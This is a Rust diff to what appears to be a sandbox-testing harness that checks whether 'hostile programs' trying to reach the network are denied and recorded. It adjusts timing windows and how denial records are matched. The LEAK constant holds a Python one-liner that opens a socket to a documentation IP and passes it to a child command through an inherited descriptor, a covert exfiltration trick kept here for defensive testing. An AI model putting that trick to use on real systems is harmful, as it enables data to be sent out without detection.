@@ -25,15 +25,18 @@ use net::{Net, PYTHON, Told};
 pub use report::{Row, Summary, summary, table, unexpected};
 pub use vectors::{Expect, VECTORS, Vector, Who};
 
-const HOSTILE: &str = include_str!("hostile.py");
+/// What every hostile program begins with.
+pub const HOSTILE: &str = include_str!("hostile.py");
 const RUNNER: &str = include_str!("runner.py");
 const DONOR: &str = include_str!("donor.py");
 /// Opens a connected socket as descriptor 9, which is inherited, and becomes the command.
 const LEAK: &str = "import os, sys; from socket import *\n\
     s = socket(type=SOCK_DGRAM); s.connect(('198.51.100.9', 19999)); os.dup2(s.fileno(), 9, True)\n\
     os.execvp(sys.argv[1], sys.argv[1:])";
+/// How long after an attempt its record may be written, in nanoseconds.
+const WRITTEN: i64 = 200_000_000;
 /// How long an attempt may take, in seconds.
-const PATIENCE: u32 = 4;
+const PATIENCE: u32 = 2;
 
 /// How the agent is while the programs try.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -84,22 +87,24 @@ pub struct Attempt {
 }
 
 impl Attempt {
-    /// Whether the record is of this attempt. The packet hook cannot name a process.
-    fn is_in(&self, record: &Value) -> bool {
+    /// Whether the record is of this attempt. The packet hook cannot name a process: with `unnamed`, its records of the
+    /// same time are this attempt's.
+    fn is_in(&self, record: &Value, unnamed: bool) -> bool {
         let pid = record["pid"].as_u64().unwrap_or(0);
         let port = format!(":{}", self.port);
         let meant = record["original"].as_str().is_some_and(|o| o.ends_with(&port));
         let within = record["ts_ns"]
             .as_i64()
-            .is_some_and(|at| (self.began..=self.ended).contains(&at));
-        pid == self.pid || meant || (pid == 0 && record["kind"] == "kernel.denied" && within)
+            .is_some_and(|at| (self.began..=self.ended + WRITTEN).contains(&at));
+        pid == self.pid || meant || (unnamed && pid == 0 && record["kind"] == "kernel.denied" && within)
     }
 
     /// The first record that tells of its denial.
     #[must_use]
-    pub fn denial<'a>(&self, records: &'a [Value]) -> Option<&'a Value> {
+    pub fn denial<'a>(&self, vector: &Vector, records: &'a [Value]) -> Option<&'a Value> {
+        let unnamed = vector.expect == Expect::Recorded;
         let denies = |r: &&Value| r["kind"] == "kernel.denied" || r["verdict"] == "refused";
-        records.iter().filter(denies).find(|r| self.is_in(r))
+        records.iter().filter(denies).find(|r| self.is_in(r, unnamed))
     }
 }
 
